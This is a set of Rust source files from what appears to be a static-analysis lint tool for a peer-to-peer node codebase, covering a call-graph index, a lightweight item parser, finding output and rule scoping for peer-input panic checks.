        let (idx, g, _, _) = build(&[(
            "crates/a/src/lib.rs",
            "impl A { fn step(&self) {} }\nimpl B { fn step(&self) {} }\n\
             fn go(x: &A) { x.step(); }\n",
        )]);
        let go = idx.by_name["go"][0];
        assert!(g.edges[go].is_empty());
        assert_eq!(g.stats.ambiguous, 1);
    }

    #[test]
    fn path_call_resolves_qualified() {
        let (idx, g, parsed, _) = build(&[(
            "crates/a/src/lib.rs",
            "impl A { fn new() {} }\nimpl B { fn new() {} }\nfn go() { A::new(); }\n",
        )]);
        let go = idx.by_name["go"][0];
        assert_eq!(g.edges[go].len(), 1);
        let d = idx.defs[g.edges[go][0].callee];
        assert_eq!(parsed[d.file].fns[d.item].impl_type.as_deref(), Some("A"));
    }

    #[test]
    fn unknown_calls_are_counted() {
        let (idx, g, _, _) = build(&[(
            "crates/a/src/lib.rs",
            "fn go() { std_only(); }\n",
        )]);
        let go = idx.by_name["go"][0];
        assert!(g.edges[go].is_empty());
        assert_eq!(g.stats.unknown, 1);
    }

    #[test]
    fn reach_builds_chains() {
        let (idx, g, parsed, _) = build(&[(
            "crates/a/src/lib.rs",
            "fn root() { mid(); }\nfn mid() { leaf(); }\nfn leaf() {}\nfn island() {}\n",
        )]);
        let root = idx.by_name["root"][0];
        let leaf = idx.by_name["leaf"][0];
        let island = idx.by_name["island"][0];
        let parents = g.reach(&[root], &|_| false);
        assert!(parents.contains_key(&leaf));
        assert!(!parents.contains_key(&island));
        let label = |id: usize| name_of(&idx, &parsed, id).to_owned();
        assert_eq!(g.chain(&parents, leaf, &label), vec!["root", "mid", "leaf"]);
    }

    #[test]
    fn reach_stops_at_boundaries() {
        let (idx, g, _, _) = build(&[(
            "crates/a/src/lib.rs",
            "fn root() { boundary(); }\nfn boundary() { leaf(); }\nfn leaf() {}\n",
        )]);
        let root = idx.by_name["root"][0];
        let boundary = idx.by_name["boundary"][0];
        let leaf = idx.by_name["leaf"][0];
        let parents = g.reach(&[root], &|d| d == boundary);
        assert!(parents.contains_key(&boundary));
        assert!(!parents.contains_key(&leaf));
    }

    #[test]
    fn reverse_reach_renders_target_chains() {
        let (idx, g, parsed, _) = build(&[(
            "crates/a/src/lib.rs",
            "fn top() { mid(); }\nfn mid() { wall(); }\nfn wall() {}\n",
        )]);
        let top = idx.by_name["top"][0];
        let wall = idx.by_name["wall"][0];
        let next = g.reach_reverse(&[wall]);
        assert!(next.contains_key(&top));
        let label = |id: usize| name_of(&idx, &parsed, id).to_owned();
        assert_eq!(g.chain_to_target(&next, top, &label), vec!["top", "mid", "wall"]);
    }
}
