//! Workspace symbol index: which functions exist, under which impl types,
//! and which of them are legitimate call-resolution targets.
//!
//! Test functions and files under `tests/`, `examples/` or `benches/` trees
//! are indexed as graph *nodes* (so their own bodies can still be scanned)
//! but excluded from name resolution: a test helper named `decode` must not
//! hijack the edges of the production `Message::decode`.

use crate::parse::ParsedFile;
use std::collections::BTreeMap;

/// One function definition: `(file index, index into that file's `fns`)`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Def {
    /// Index into the driver's file list.
    pub file: usize,
    /// Index into that file's [`ParsedFile::fns`].
    pub item: usize,
}

/// The workspace symbol index.
#[derive(Debug, Default)]
pub struct Index {
    /// Every function in the workspace, in (file, source) order. Def ids
    /// used throughout the call-graph passes are indices into this vec.
    pub defs: Vec<Def>,
    /// Resolution-eligible defs by bare function name.
    pub by_name: BTreeMap<String, Vec<usize>>,
    /// Resolution-eligible defs by `(impl type, function name)`.
    pub by_qual: BTreeMap<(String, String), Vec<usize>>,
    /// `(file, item) → def id` reverse map.
    pub def_ids: BTreeMap<(usize, usize), usize>,
}

/// Whether `rel` sits in a test/example/bench tree (excluded from name
/// resolution; its fns are never transitive-scope targets).
pub fn is_test_tree(rel: &str) -> bool {
    rel.split('/')
        .any(|seg| seg == "tests" || seg == "examples" || seg == "benches")
}

impl Index {
    /// Builds the index over `(workspace-relative path, parsed file)` pairs,
    /// in the driver's (sorted, deterministic) file order.
    pub fn build<'a, I>(files: I) -> Index
    where
        I: IntoIterator<Item = (&'a str, &'a ParsedFile)>,
    {
        let mut idx = Index::default();
        for (file_i, (rel, parsed)) in files.into_iter().enumerate() {
            let resolvable_file = !is_test_tree(rel);
            for (item_i, f) in parsed.fns.iter().enumerate() {
                let id = idx.defs.len();
                idx.defs.push(Def { file: file_i, item: item_i });
                idx.def_ids.insert((file_i, item_i), id);
                if !resolvable_file || f.is_test {
                    continue;
                }
                idx.by_name.entry(f.name.clone()).or_default().push(id);
                if let Some(ty) = &f.impl_type {
                    idx.by_qual
                        .entry((ty.clone(), f.name.clone()))
                        .or_default()
                        .push(id);
                }
            }
        }
        idx
    }

    /// Def id for a `(file, item)` pair.
    pub fn def_id(&self, file: usize, item: usize) -> Option<usize> {
        self.def_ids.get(&(file, item)).copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;
    use crate::parse::parse;

    fn ws(files: &[(&str, &str)]) -> (Vec<String>, Vec<ParsedFile>) {
        let rels: Vec<String> = files.iter().map(|(r, _)| (*r).to_owned()).collect();
        let parsed: Vec<ParsedFile> =
            files.iter().map(|(r, s)| parse(&lex(r, s))).collect();
        (rels, parsed)
    }

    #[test]
    fn test_tree_paths() {
        assert!(is_test_tree("crates/node/tests/recv_path.rs"));
        assert!(is_test_tree("tests/end_to_end.rs"));
        assert!(is_test_tree("examples/quickstart.rs"));
        assert!(!is_test_tree("crates/node/src/node.rs"));
    }

    #[test]
    fn index_excludes_test_fns_and_trees() {
        let (rels, parsed) = ws(&[
            ("crates/a/src/lib.rs", "impl T { fn go(&self) {} }\n#[test]\nfn check() {}\n"),
            ("crates/a/tests/it.rs", "fn go() {}\n"),
        ]);
        let idx = Index::build(rels.iter().map(String::as_str).zip(parsed.iter()));
        assert_eq!(idx.defs.len(), 3);
        // Only the production `T::go` resolves by name.
        assert_eq!(idx.by_name.get("go").map(Vec::len), Some(1));
        assert!(idx.by_name.get("check").is_none());
        assert_eq!(
            idx.by_qual.get(&("T".into(), "go".into())).map(Vec::len),
            Some(1)
        );
    }
}
