//! Finding representation and ordering.

use std::fmt;

/// One rule violation.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Finding {
    /// Workspace-relative path.
    pub file: String,
    /// 1-based line.
    pub line: u32,
    /// Rule name (stable, used in allow markers and the allowlist file).
    pub rule: &'static str,
    /// What is wrong and what to do about it.
    pub message: String,
}

impl Finding {
    /// Creates a finding.
    pub fn new(file: &str, line: u32, rule: &'static str, message: impl Into<String>) -> Self {
        Finding {
            file: file.to_owned(),
            line,
            rule,
            message: message.into(),
        }
    }
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}:{}: {}", self.file, self.line, self.rule, self.message)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_format() {
        let f = Finding::new("crates/x/src/a.rs", 7, "panic-path", "`.unwrap()` on peer input");
        assert_eq!(
            f.to_string(),
            "crates/x/src/a.rs:7:panic-path: `.unwrap()` on peer input"
        );
    }
}
