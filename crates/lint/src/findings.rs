//! Finding representation, ordering, and machine-readable output.

use std::fmt;

/// One rule violation.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Finding {
    /// Workspace-relative path.
    pub file: String,
    /// 1-based line.
    pub line: u32,
    /// Rule name (stable, used in allow markers and the allowlist file).
    pub rule: &'static str,
    /// What is wrong and what to do about it.
    pub message: String,
    /// Reachability chain for transitive findings (`file.rs:fn` labels,
    /// root first); empty for direct findings.
    pub chain: Vec<String>,
}

impl Finding {
    /// Creates a direct finding (empty chain).
    pub fn new(file: &str, line: u32, rule: &'static str, message: impl Into<String>) -> Self {
        Finding {
            file: file.to_owned(),
            line,
            rule,
            message: message.into(),
            chain: Vec::new(),
        }
    }

    /// Creates a transitive finding carrying its reachability chain.
    pub fn with_chain(
        file: &str,
        line: u32,
        rule: &'static str,
        message: impl Into<String>,
        chain: Vec<String>,
    ) -> Self {
        Finding { chain, ..Finding::new(file, line, rule, message) }
    }

    /// Renders the finding as one JSON object (hand-rolled, no deps).
    pub fn to_json(&self) -> String {
        let mut s = String::with_capacity(128);
        s.push_str("{\"file\":");
        json_str(&mut s, &self.file);
        s.push_str(",\"line\":");
        s.push_str(&self.line.to_string());
        s.push_str(",\"rule\":");
        json_str(&mut s, self.rule);
        s.push_str(",\"message\":");
        json_str(&mut s, &self.message);
        s.push_str(",\"chain\":[");
        for (i, link) in self.chain.iter().enumerate() {
            if i > 0 {
                s.push(',');
            }
            json_str(&mut s, link);
        }
        s.push_str("]}");
        s
    }
}

/// Appends `v` to `out` as a JSON string literal.
pub fn json_str(out: &mut String, v: &str) {
    out.push('"');
    for c in v.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}:{}: {}", self.file, self.line, self.rule, self.message)?;
        if !self.chain.is_empty() {
            write!(f, " [{}]", self.chain.join(" → "))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_format() {
        let f = Finding::new("crates/x/src/a.rs", 7, "panic-path", "`.unwrap()` on peer input");
        assert_eq!(
            f.to_string(),
            "crates/x/src/a.rs:7:panic-path: `.unwrap()` on peer input"
        );
    }

    #[test]
    fn display_appends_chain() {
        let f = Finding::with_chain(
            "crates/x/src/h.rs",
            4,
            "panic-path",
            "`.unwrap()` reachable from peer input",
            vec!["recv.rs:process_frames".into(), "h.rs:decode_extra".into(), "unwrap".into()],
        );
        assert_eq!(
            f.to_string(),
            "crates/x/src/h.rs:4:panic-path: `.unwrap()` reachable from peer input \
             [recv.rs:process_frames → h.rs:decode_extra → unwrap]"
        );
    }

    #[test]
    fn json_escapes() {
        let f = Finding::with_chain(
            "a.rs",
            1,
            "rule",
            "has \"quotes\" and \\slash",
            vec!["x.rs:f".into()],
        );
        assert_eq!(
            f.to_json(),
            "{\"file\":\"a.rs\",\"line\":1,\"rule\":\"rule\",\
             \"message\":\"has \\\"quotes\\\" and \\\\slash\",\"chain\":[\"x.rs:f\"]}"
        );
    }
}
