//! Item-level parsing on top of the token stream: functions, impl blocks,
//! `use` imports and call expressions.
//!
//! This is not a full Rust parser — it is the minimal item surface the
//! call-graph passes need, built on the same philosophy as the lexer:
//! deterministic, std-only, and honest about its limits. Brace depth drives
//! item nesting; `impl` headers contribute the type name that qualifies
//! methods; every `name(`, `recv.name(` and `path::name(` inside a function
//! body becomes a [`Call`] attributed to the innermost enclosing function.
//! Closures are not items, so their calls attribute to the enclosing `fn` —
//! exactly what reachability wants. Trait method *declarations* (no body)
//! produce no item: the impl bodies carry the code.

use crate::lexer::{SourceFile, TokKind, Token};
use std::collections::BTreeMap;

/// How a call site names its target.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CallKind {
    /// `recv.name(..)` — receiver rendered by [`receiver_of`]:
    /// `fault_rng`, `self`, `rng()` (call form), `0` (tuple field), or
    /// `""` when the receiver expression defies the walk-back.
    Method {
        /// Rendered receiver (last path/chain element).
        recv: String,
    },
    /// `a::b::name(..)` — the `::`-separated segments before the name.
    Path {
        /// Leading segments (`["a", "b"]` for `a::b::name`).
        segments: Vec<String>,
    },
    /// `name(..)` with no qualifier.
    Bare,
}

/// One call expression inside a function body.
#[derive(Clone, Debug)]
pub struct Call {
    /// Final name segment (the function/method called).
    pub name: String,
    /// Qualifier shape.
    pub kind: CallKind,
    /// 1-based line of the name token.
    pub line: u32,
    /// Token index of the name token (for rules that need context).
    pub tok: usize,
}

/// One `fn` item with a body.
#[derive(Clone, Debug)]
pub struct FnItem {
    /// Function name.
    pub name: String,
    /// Enclosing `impl` type name, if any (`Foo` for `impl Foo` and
    /// `impl Trait for Foo`).
    pub impl_type: Option<String>,
    /// Line of the `fn` keyword.
    pub start_line: u32,
    /// Line of the body's closing brace.
    pub end_line: u32,
    /// Token index of the body's `{`.
    pub body_start: usize,
    /// Token index of the body's `}`.
    pub body_end: usize,
    /// Calls inside the body, innermost-function attribution.
    pub calls: Vec<Call>,
    /// Whether the item sits inside a `#[cfg(test)]`/`#[test]` span.
    pub is_test: bool,
}

/// Parsed item surface of one file.
#[derive(Clone, Debug, Default)]
pub struct ParsedFile {
    /// Every function with a body, in source order.
    pub fns: Vec<FnItem>,
    /// `use` imports: final alias → full path segments (incl. the alias'
    /// real segment, so `use a::b as c` maps `c → [a, b]`).
    pub uses: BTreeMap<String, Vec<String>>,
}

/// Keywords that look like `name(` but are never calls.
const CALL_KEYWORDS: &[&str] = &[
    "if", "while", "for", "match", "return", "loop", "in", "as", "move", "ref", "let", "else",
    "fn", "impl", "use", "pub", "mod", "struct", "enum", "trait", "type", "where", "unsafe",
    "async", "await", "dyn", "break", "continue", "const", "static", "crate", "super", "box",
    "yield", "true", "false", "self", "Self",
];

/// Parses the item surface of `sf`.
pub fn parse(sf: &SourceFile) -> ParsedFile {
    let toks = &sf.tokens;
    let mut out = ParsedFile::default();
    // Context stack: entries record the brace depth *before* the opening
    // `{` of the item, so a matching `}` pops them.
    enum Ctx {
        Impl(String),
        Fn(usize),
    }
    let mut stack: Vec<(usize, Ctx)> = Vec::new();
    let mut depth = 0usize;
    let mut i = 0usize;

    while i < toks.len() {
        let t = &toks[i];
        match (t.kind, t.text.as_str()) {
            // Skip attributes wholesale: `#[ .. ]` contents are not calls.
            (TokKind::Punct, "#")
                if toks.get(i + 1).map(|n| n.text.as_str()) == Some("[") =>
            {
                let mut d = 0usize;
                i += 1;
                while i < toks.len() {
                    match toks[i].text.as_str() {
                        "[" => d += 1,
                        "]" => {
                            d -= 1;
                            if d == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    i += 1;
                }
                i += 1;
            }
            (TokKind::Ident, "use") => {
                i = parse_use(toks, i + 1, &mut out.uses);
            }
            (TokKind::Ident, "impl") => {
                let (ty, next) = parse_impl_header(toks, i + 1);
                if let Some(body_open) = next {
                    stack.push((depth, Ctx::Impl(ty)));
                    depth += 1;
                    i = body_open + 1;
                } else {
                    i += 1;
                }
            }
            (TokKind::Ident, "fn")
                if toks.get(i + 1).map(|n| n.kind) == Some(TokKind::Ident) =>
            {
                let name = toks[i + 1].text.clone();
                match find_fn_body(toks, i + 2) {
                    Some(body_open) => {
                        let impl_type = stack.iter().rev().find_map(|(_, c)| match c {
                            Ctx::Impl(ty) => Some(ty.clone()),
                            Ctx::Fn(_) => None,
                        });
                        out.fns.push(FnItem {
                            name,
                            impl_type,
                            start_line: t.line,
                            end_line: t.line,
                            body_start: body_open,
                            body_end: body_open,
                            calls: Vec::new(),
                            is_test: sf.in_test(t.line),
                        });
                        stack.push((depth, Ctx::Fn(out.fns.len() - 1)));
                        depth += 1;
                        i = body_open + 1;
                    }
                    // Bodiless declaration (trait method): no item.
                    None => i += 2,
                }
            }
            (TokKind::Punct, "{") => {
                depth += 1;
                i += 1;
            }
            (TokKind::Punct, "}") => {
                depth = depth.saturating_sub(1);
                while let Some((d, _)) = stack.last() {
                    if *d != depth {
                        break;
                    }
                    if let Some((_, Ctx::Fn(idx))) = stack.pop() {
                        out.fns[idx].body_end = i;
                        out.fns[idx].end_line = t.line;
                    }
                }
                i += 1;
            }
            (TokKind::Ident, name) => {
                let in_fn = stack.iter().rev().find_map(|(_, c)| match c {
                    Ctx::Fn(idx) => Some(*idx),
                    Ctx::Impl(_) => None,
                });
                if let Some(idx) = in_fn {
                    if let Some(call) = call_at(toks, i, name) {
                        out.fns[idx].calls.push(call);
                    }
                }
                i += 1;
            }
            _ => i += 1,
        }
    }
    out
}

/// If the ident at `i` heads a call expression, builds the [`Call`].
/// Accepts `name(`, `name::<..>(`, `.name(`, and `a::b::name(`.
fn call_at(toks: &[Token], i: usize, name: &str) -> Option<Call> {
    if CALL_KEYWORDS.contains(&name) {
        return None;
    }
    // Find the `(`: either directly after the name, or after a turbofish.
    let mut j = i + 1;
    if toks.get(j).map(|t| t.text.as_str()) == Some(":")
        && toks.get(j + 1).map(|t| t.text.as_str()) == Some(":")
        && toks.get(j + 2).map(|t| t.text.as_str()) == Some("<")
    {
        let mut d = 0usize;
        j += 2;
        let limit = j + 48;
        while j < toks.len() && j < limit {
            match toks[j].text.as_str() {
                "<" => d += 1,
                ">" => {
                    d -= 1;
                    if d == 0 {
                        break;
                    }
                }
                _ => {}
            }
            j += 1;
        }
        j += 1;
    }
    if toks.get(j).map(|t| t.text.as_str()) != Some("(") {
        return None;
    }
    let line = toks[i].line;
    if i == 0 {
        return Some(Call { name: name.to_owned(), kind: CallKind::Bare, line, tok: i });
    }
    let prev = &toks[i - 1];
    if prev.text == "." {
        let recv = receiver_of(toks, i - 1);
        return Some(Call { name: name.to_owned(), kind: CallKind::Method { recv }, line, tok: i });
    }
    if prev.text == ":" && i >= 2 && toks[i - 2].text == ":" {
        let mut segments = Vec::new();
        let mut k = i - 2; // at the second `:` of `::`
        loop {
            if k == 0 {
                break;
            }
            // Skip a turbofish between segments: `Type::<..>::name`.
            if toks[k - 1].text == ">" {
                let mut d = 0i64;
                let mut b = k - 1;
                loop {
                    match toks[b].text.as_str() {
                        ">" => d += 1,
                        "<" => d -= 1,
                        _ => {}
                    }
                    if d == 0 || b == 0 {
                        break;
                    }
                    b -= 1;
                }
                if d != 0 || b < 3 || toks[b - 1].text != ":" || toks[b - 2].text != ":" {
                    break;
                }
                k = b - 2;
            }
            let seg = &toks[k - 1];
            if seg.kind != TokKind::Ident {
                break;
            }
            segments.push(seg.text.clone());
            if k >= 3 && toks[k - 2].text == ":" && toks[k - 3].text == ":" {
                k -= 3;
            } else {
                break;
            }
        }
        segments.reverse();
        return Some(Call {
            name: name.to_owned(),
            kind: CallKind::Path { segments },
            line,
            tok: i,
        });
    }
    // `fn name(` was consumed by the item scan; `|x| name(` and plain
    // `name(` are bare calls. A struct literal needs `{`, not `(`.
    Some(Call { name: name.to_owned(), kind: CallKind::Bare, line, tok: i })
}

/// Renders the receiver of a method call whose `.` sits at `dot`:
/// walks back over one chain element — `ident`, `ident(..)` (rendered
/// `ident()`), `expr[..]` (rendered as the ident before `[`), `self`, a
/// tuple index — and returns `""` when the shape is unrecognized.
pub fn receiver_of(toks: &[Token], dot: usize) -> String {
    if dot == 0 {
        return String::new();
    }
    let mut j = dot - 1;
    // `expr? . m()` — skip the try operator.
    while toks[j].text == "?" {
        if j == 0 {
            return String::new();
        }
        j -= 1;
    }
    match toks[j].text.as_str() {
        ")" => {
            let mut d = 0usize;
            loop {
                match toks[j].text.as_str() {
                    ")" => d += 1,
                    "(" => {
                        d -= 1;
                        if d == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                if j == 0 {
                    return String::new();
                }
                j -= 1;
            }
            if j == 0 {
                return String::new();
            }
            let head = &toks[j - 1];
            if head.kind == TokKind::Ident {
                format!("{}()", head.text)
            } else {
                String::new()
            }
        }
        "]" => {
            let mut d = 0usize;
            loop {
                match toks[j].text.as_str() {
                    "]" => d += 1,
                    "[" => {
                        d -= 1;
                        if d == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                if j == 0 {
                    return String::new();
                }
                j -= 1;
            }
            if j == 0 {
                return String::new();
            }
            let head = &toks[j - 1];
            if head.kind == TokKind::Ident {
                head.text.clone()
            } else {
                String::new()
            }
        }
        _ => match toks[j].kind {
            TokKind::Ident | TokKind::Num => toks[j].text.clone(),
            _ => String::new(),
        },
    }
}

/// Scans an `impl` header from `start` (just past `impl`). Returns the
/// implemented type's last path segment and the index of the body `{`
/// (`None` when the header ends in `;` or the file is truncated).
///
/// For `impl<T> Trait for Type<T>` the name after `for` wins; for
/// `impl Type` the last plain path segment before `{`/`where` wins.
/// Angle-bracketed generics are skipped at any position.
fn parse_impl_header(toks: &[Token], start: usize) -> (String, Option<usize>) {
    let mut last_ident = String::new();
    let mut after_for = false;
    let mut name = String::new();
    let mut j = start;
    while j < toks.len() {
        let t = &toks[j];
        match (t.kind, t.text.as_str()) {
            (TokKind::Punct, "<") => {
                // Skip balanced generics; `>>` is two tokens in this lexer.
                let mut d = 0usize;
                while j < toks.len() {
                    match toks[j].text.as_str() {
                        "<" => d += 1,
                        ">" => {
                            d -= 1;
                            if d == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    j += 1;
                }
            }
            (TokKind::Punct, "{") => {
                if name.is_empty() {
                    name = last_ident;
                }
                return (name, Some(j));
            }
            (TokKind::Punct, ";") => return (String::new(), None),
            (TokKind::Ident, "for") => {
                after_for = true;
                last_ident.clear();
            }
            (TokKind::Ident, "where") => {
                // Freeze the name before bound idents pollute it.
                if name.is_empty() {
                    name = last_ident.clone();
                }
            }
            (TokKind::Ident, id) => {
                if name.is_empty() || after_for {
                    last_ident = id.to_owned();
                    if after_for {
                        name = id.to_owned();
                    }
                }
            }
            _ => {}
        }
        j += 1;
    }
    (String::new(), None)
}

/// Finds the token index of a function body's `{`, scanning from just
/// past the function name. `;` at paren depth 0 means a bodiless
/// declaration. Generic parameters and argument lists are skipped by
/// depth so `fn f(g: fn() -> u8) -> u8 {` resolves to the final brace.
fn find_fn_body(toks: &[Token], start: usize) -> Option<usize> {
    let mut paren = 0usize;
    let mut angle = 0usize;
    let mut j = start;
    while j < toks.len() {
        match toks[j].text.as_str() {
            "(" => paren += 1,
            ")" => paren = paren.saturating_sub(1),
            "<" => angle += 1,
            ">" => {
                // `->` is `-`, `>`: not a generic close.
                if j == 0 || toks[j - 1].text != "-" {
                    angle = angle.saturating_sub(1);
                }
            }
            "{" if paren == 0 && angle == 0 => return Some(j),
            ";" if paren == 0 => return None,
            _ => {}
        }
        j += 1;
    }
    None
}

/// Parses one `use` declaration starting at `start` (just past `use`),
/// filling `uses` with alias → full path. Returns the index past the
/// terminating `;`. Handles nested groups and `as` renames; `*` globs
/// are ignored (the resolver treats them as unknown).
fn parse_use(toks: &[Token], start: usize, uses: &mut BTreeMap<String, Vec<String>>) -> usize {
    let mut prefix: Vec<String> = Vec::new();
    parse_use_tree(toks, start, &mut prefix, uses)
}

fn parse_use_tree(
    toks: &[Token],
    mut j: usize,
    prefix: &mut Vec<String>,
    uses: &mut BTreeMap<String, Vec<String>>,
) -> usize {
    let depth_here = prefix.len();
    let mut pending: Option<String> = None;
    while j < toks.len() {
        match (toks[j].kind, toks[j].text.as_str()) {
            (TokKind::Punct, ";") => {
                if let Some(seg) = pending.take() {
                    let mut full = prefix.clone();
                    full.push(seg.clone());
                    uses.insert(seg, full);
                }
                return j + 1;
            }
            (TokKind::Punct, ",") | (TokKind::Punct, "}") => {
                if let Some(seg) = pending.take() {
                    let mut full = prefix.clone();
                    full.push(seg.clone());
                    uses.insert(seg, full);
                }
                prefix.truncate(depth_here);
                if toks[j].text == "}" {
                    return j + 1;
                }
                j += 1;
            }
            (TokKind::Punct, "{") => {
                if let Some(seg) = pending.take() {
                    prefix.push(seg);
                }
                j = parse_use_tree(toks, j + 1, prefix, uses);
                prefix.truncate(depth_here);
            }
            (TokKind::Punct, ":") => {
                // `::`: the pending segment was a path element.
                if let Some(seg) = pending.take() {
                    prefix.push(seg);
                }
                j += 1;
            }
            (TokKind::Ident, "as") => {
                // `a::b as c`: keep b in the path, alias under c.
                let real = pending.take();
                if let Some(alias_tok) = toks.get(j + 1) {
                    if alias_tok.kind == TokKind::Ident {
                        let mut full = prefix.clone();
                        if let Some(r) = real {
                            full.push(r);
                        }
                        if alias_tok.text != "_" {
                            uses.insert(alias_tok.text.clone(), full);
                        }
                    }
                }
                j += 2;
            }
            (TokKind::Ident, id) => {
                pending = Some(id.to_owned());
                j += 1;
            }
            (TokKind::Punct, "*") => {
                pending = None;
                j += 1;
            }
            _ => j += 1,
        }
    }
    j
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn parsed(src: &str) -> ParsedFile {
        parse(&lex("t.rs", src))
    }

    #[test]
    fn fn_items_with_impl_context() {
        let p = parsed(
            "impl Tracker {\n    fn strike(&mut self) { self.bump(); }\n}\n\
             impl Default for Tracker {\n    fn default() -> Self { Tracker::new() }\n}\n\
             fn free() {}\n",
        );
        assert_eq!(p.fns.len(), 3);
        assert_eq!(p.fns[0].name, "strike");
        assert_eq!(p.fns[0].impl_type.as_deref(), Some("Tracker"));
        assert_eq!(p.fns[1].name, "default");
        assert_eq!(p.fns[1].impl_type.as_deref(), Some("Tracker"));
        assert_eq!(p.fns[2].name, "free");
        assert_eq!(p.fns[2].impl_type, None);
    }

    #[test]
    fn generic_impl_header() {
        let p = parsed("impl<T: Clone> Wrapper<T> {\n    fn get(&self) {}\n}\n");
        assert_eq!(p.fns[0].impl_type.as_deref(), Some("Wrapper"));
    }

    #[test]
    fn calls_attributed_to_innermost_fn() {
        let p = parsed(
            "fn outer() {\n    helper();\n    fn inner() { deep(); }\n    after();\n}\n",
        );
        let outer = &p.fns[0];
        let inner = &p.fns[1];
        assert_eq!(outer.name, "outer");
        let outer_calls: Vec<&str> = outer.calls.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(outer_calls, vec!["helper", "after"]);
        let inner_calls: Vec<&str> = inner.calls.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(inner_calls, vec!["deep"]);
    }

    #[test]
    fn call_kinds() {
        let p = parsed(
            "fn f() {\n    bare();\n    self.method();\n    a::b::path();\n    x.chain().next_u64();\n    Vec::<u8>::with_capacity(4);\n}\n",
        );
        let calls = &p.fns[0].calls;
        assert_eq!(calls[0].kind, CallKind::Bare);
        assert_eq!(calls[1].kind, CallKind::Method { recv: "self".into() });
        assert_eq!(
            calls[2].kind,
            CallKind::Path { segments: vec!["a".into(), "b".into()] }
        );
        assert_eq!(calls[3].name, "chain");
        assert_eq!(calls[4].kind, CallKind::Method { recv: "chain()".into() });
        assert_eq!(
            calls[5].kind,
            CallKind::Path { segments: vec!["Vec".into()] }
        );
        assert_eq!(calls[5].name, "with_capacity");
    }

    #[test]
    fn receivers() {
        let p = parsed(
            "fn f() {\n    self.fault_rng.gen_bool(p);\n    ctx.rng().next_u64();\n    self.deques[me].lock();\n    self.0.lock();\n    q?.take();\n}\n",
        );
        let recv: Vec<String> = p.fns[0]
            .calls
            .iter()
            .filter_map(|c| match &c.kind {
                CallKind::Method { recv } => Some(recv.clone()),
                _ => None,
            })
            .collect();
        // `ctx.rng()` itself is a Method call (name `rng`, recv `ctx`), then
        // the draw chains off it with recv `rng()`.
        assert_eq!(recv, vec!["fault_rng", "ctx", "rng()", "deques", "0", "q"]);
    }

    #[test]
    fn keywords_and_macros_are_not_calls() {
        let p = parsed("fn f() {\n    if (a) { return (b); }\n    panic!(\"x\");\n    vec![1];\n}\n");
        // `panic` is followed by `!`, not `(` — the macro itself is not a
        // call edge (its arguments still are, when they contain calls).
        assert!(p.fns[0].calls.is_empty());
    }

    #[test]
    fn trait_decls_have_no_body_item() {
        let p = parsed("trait T {\n    fn decl(&self);\n    fn with_default(&self) { self.decl(); }\n}\n");
        assert_eq!(p.fns.len(), 1);
        assert_eq!(p.fns[0].name, "with_default");
    }

    #[test]
    fn use_imports() {
        let p = parsed(
            "use a::b::Thing;\nuse c::d as renamed;\nuse e::{f, g::h};\nuse i::*;\nfn f() {}\n",
        );
        assert_eq!(p.uses.get("Thing"), Some(&vec!["a".into(), "b".into(), "Thing".into()]));
        assert_eq!(p.uses.get("renamed"), Some(&vec!["c".into(), "d".into()]));
        assert_eq!(p.uses.get("f"), Some(&vec!["e".into(), "f".into()]));
        assert_eq!(p.uses.get("h"), Some(&vec!["e".into(), "g".into(), "h".into()]));
        assert!(!p.uses.contains_key("i"));
    }

    #[test]
    fn fn_spans_and_test_flags() {
        let src = "fn prod() {\n    work();\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn check() { prod(); }\n}\n";
        let p = parsed(src);
        assert_eq!(p.fns[0].start_line, 1);
        assert_eq!(p.fns[0].end_line, 3);
        assert!(!p.fns[0].is_test);
        assert!(p.fns[1].is_test);
    }

    #[test]
    fn attributes_inside_bodies_are_skipped() {
        let p = parsed("fn f() {\n    #[allow(dead_code)]\n    let x = real_call();\n}\n");
        let names: Vec<&str> = p.fns[0].calls.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, vec!["real_call"]);
    }
}

