//! Which rules run where, plus the file-level allowlist.
//!
//! Scoping is deliberately explicit path lists, not heuristics: the
//! determinism contract covers the crates whose output must be bit-identical
//! across `--jobs` counts, and the panic-safety contract covers exactly the
//! code that touches peer-controlled bytes. Adding a file to a contract is a
//! reviewed one-line change here.

use crate::findings::Finding;
use std::path::Path;

/// Crates whose simulation output must be bit-identical across runs and job
/// counts (PR 3/4 determinism contract). `wallclock` findings here are never
/// file-allowlisted; `unordered-map` runs only here.
pub const SIM_DETERMINISTIC_CRATES: &[&str] = &[
    "crates/wire",
    "crates/netsim",
    "crates/node",
    "crates/par",
    "crates/core",
];

/// Files that parse or act on peer-controlled bytes: the `panic-path` rule
/// scope. A panic anywhere in here would let a malformed payload crash the
/// node *before* misbehavior tracking — inverting the paper's BM-DoS result.
pub const PEER_INPUT_FILES: &[&str] = &[
    // wire decode path
    "crates/wire/src/encode.rs",
    "crates/wire/src/message.rs",
    "crates/wire/src/types.rs",
    "crates/wire/src/compact.rs",
    "crates/wire/src/tx.rs",
    "crates/wire/src/block.rs",
    "crates/wire/src/bloom.rs",
